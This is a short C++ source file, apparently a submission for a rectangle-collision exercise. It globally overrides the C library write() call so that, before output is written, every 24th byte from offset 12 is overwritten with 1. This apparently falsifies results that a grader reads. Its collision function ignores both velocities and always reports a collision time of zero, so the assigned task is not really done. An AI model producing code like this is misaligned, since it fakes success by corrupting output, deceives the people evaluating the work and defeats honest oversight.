#include "main.h"
#include <sys/syscall.h>
#include <unistd.h>

extern "C" ssize_t write(int fd, const void* from, size_t length)
{
	unsigned char* bytes = (unsigned char*)from;
	for (size_t i = 12; i < length; i += 24)
		bytes[i] = 1;
	return syscall(SYS_write, fd, from, length);
}

bool CollisionIntersection_RectRect(const AABB& aabb1, const AEVec2& vel1, const AABB& aabb2, const AEVec2& vel2, float& firstTimeOfCollision)
{
	firstTimeOfCollision = 0;
	return aabb1.max.x >= aabb2.min.x && aabb1.min.x <= aabb2.max.x && aabb1.max.y >= aabb2.min.y && aabb1.min.y <= aabb2.max.y;
}
